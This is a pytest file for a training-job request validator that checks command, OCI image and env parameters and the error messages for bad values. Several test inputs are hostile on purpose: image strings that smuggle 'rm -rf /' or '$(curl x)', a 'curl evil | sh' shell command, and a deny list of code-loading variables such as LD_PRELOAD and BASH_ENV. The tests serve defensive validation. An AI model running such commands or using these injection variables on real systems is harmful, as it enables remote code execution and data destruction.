"""The run's own code as params: ``command`` (argv), ``image`` (OCI reference) and ``env``; every bad
value is named with its field, and the form's schema (what the REST API checks) agrees."""

from __future__ import annotations

import jsonschema
import pytest

from sailor_tasks.errors import InvalidRequestErrors
from sailor_tasks.request import from_params, train_param_schemas

SCHEMAS = train_param_schemas()


def schema_accepts(name: str, value) -> bool:
    spec = {k: v for k, v in SCHEMAS[name].items() if k not in ("default", "description", "title", "section")}
    try:
        jsonschema.validate(value, spec)
    except jsonschema.ValidationError:
        return False
    return True


def rejected(params) -> InvalidRequestErrors:
    with pytest.raises(InvalidRequestErrors) as info:
        from_params(params)
    return info.value


def test_built_in_model_stays_the_default():
    req = from_params({})
    assert (req.command, req.image, dict(req.env)) == ((), "", {})


def test_command_env_and_image_reach_the_request():
    req = from_params({"command": ["python", "plain_ddp.py", "--lr", "0.1"], "env": {"MY_FLAG": "1"}})
    assert req.command == ("python", "plain_ddp.py", "--lr", "0.1") and dict(req.env) == {"MY_FLAG": "1"}
    assert from_params({"command": None, "env": None, "image": None}).command == ()


@pytest.mark.parametrize(
    "image",
    [
        "busybox",
        "docker.io/library/ubuntu:22.04",
        "localhost:5000/team/trainer:v1.2-rc",
        "us-docker.pkg.dev/proj/repo/img@sha256:" + "a" * 64,
        "gcr.io/p/img:tag@sha256:" + "0" * 64,
    ],
)
def test_oci_references_pass_the_schema(image):
    assert schema_accepts("image", image)


@pytest.mark.parametrize(
    "image",
    ["my image", "img;rm -rf /", "img$(curl x)", "img:tag:tag", "-img", "a//b", "Img/UPPER", "img:", "img@sha256:abc"],
)
def test_bad_image_references_are_named_with_the_grammar(image):
    assert not schema_accepts("image", image)
    err = rejected({"image": image, "backend": "gke"})
    assert [e.field for e in err.errors] == ["image"]
    assert "OCI image reference" in str(err) and "[registry[:port]/]name[:tag][@digest]" in str(err)


def test_image_repository_name_is_capped():
    err = rejected({"image": "a" * 300, "backend": "gke"})
    assert "longer than 255" in str(err)


def test_an_image_on_the_local_backend_is_refused():
    err = rejected({"image": "attacker/miner:latest"})
    assert err.errors[0].field == "image" and "local backend runs no container" in str(err)


def test_a_shell_string_command_is_refused_as_such():
    assert not schema_accepts("command", "python train.py")
    err = rejected({"command": "python train.py && curl evil | sh"})
    assert err.errors[0].field == "command" and "never a shell string" in str(err)


@pytest.mark.parametrize("command", [["python", ""], ["python", 3], ["x"] * 65, ["a\x00b"], ["x" * 1025]])
def test_malformed_command_arguments_are_refused(command):
    assert not schema_accepts("command", command)
    assert rejected({"command": command}).errors[0].field == "command"


@pytest.mark.parametrize(
    ("env", "fragment"),
    [
        ({"SAILOR_DATA_DIR": "/etc"}, "reserved"),
        ({"RANK": "0"}, "reserved"),
        ({"MASTER_PORT": "1"}, "reserved"),
        ({"TORCHELASTIC_RUN_ID": "x"}, "reserved"),
        ({"PET_MAX_RESTARTS": "2"}, "torchrun reads PET_"),
        ({"1BAD": "x"}, "names must match"),
        ({"BAD-NAME": "x"}, "names must match"),
        ({"A B": "x"}, "names must match"),
        ({"X" * 65: "x"}, "at most 64 characters"),
        ({f"V{i}": "x" for i in range(33)}, "at most 32 names"),
        ({"BIG": "x" * 2049}, "at most 2048"),
        ({"NUM": 3}, "values must be strings"),
        ({"NUL": "a\x00b"}, "without NUL"),
        ("A=1", "must be an object"),
        (["A=1"], "must be an object"),
    ],
)
def test_bad_env_is_refused_naming_the_field(env, fragment):
    assert not schema_accepts("env", env)
    err = rejected({"env": env, "backend": "gke"} if isinstance(env, dict) else {"env": env})
    assert err.errors[0].field == "env" and fragment in str(err), str(err)


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PATH",
        "HOME",
        "OPENSSL_CONF",
        "OPENSSL_MODULES",
        "CUDA_INJECTION64_PATH",
        "NVTX_INJECTION64_PATH",
        "NCCL_CONF_FILE",
        "BASH_ENV",
        "NCCL_NET_PLUGIN",
        "GLIBC_TUNABLES",
    ],
)
def test_env_that_loads_other_code_is_refused_on_the_local_backend(name):
    assert schema_accepts("env", {name: "/tmp/x"})  # a container's own business elsewhere
    err = rejected({"env": {name: "/tmp/x"}})
    assert err.errors[0].field == "env" and name in str(err)


def test_own_code_image_and_env_reach_a_gke_request():
    req = from_params(
        {
            "command": ["python", "/app/train.py", "--lr", "0.1"],
            "image": "europe-docker.pkg.dev/acme/ml/train:1.2",
            "env": {"LD_LIBRARY_PATH": "/usr/local/nvidia/lib64"},  # the image's own business
            "backend": "gke",
        }
    )
    assert req.command[1] == "/app/train.py" and req.image.endswith("train:1.2")
    assert dict(req.env) == {"LD_LIBRARY_PATH": "/usr/local/nvidia/lib64"}


def test_a_request_with_env_stays_hashable_and_survives_xcom_json():
    import json

    from sailor_tasks.model import JobRequest, from_dict, to_dict

    req = from_params({"env": {"B": "2", "A": "1"}, "command": ["python", "plain_ddp.py"]})
    again = from_dict(JobRequest, json.loads(json.dumps(to_dict(req))))
    assert again == req and hash(again) == hash(req)  # the spot simulator keys placements by request
    assert dict(again.env) == {"A": "1", "B": "2"}


def test_a_commands_run_shorter_than_the_checkpoint_interval_is_accepted():
    """The interval is the built-in trainer's (a command saves as it decides): a short run of one's
    own command needs no checkpoint_every_steps it never receives; the built-in one still does."""
    short = {"total_steps": 12}
    assert from_params({**short, "command": ["python", "with_helper.py"]}).total_steps == 12
    with pytest.raises(InvalidRequestErrors, match="checkpoint_every_steps=50: must not exceed total_steps=12"):
        from_params(short)
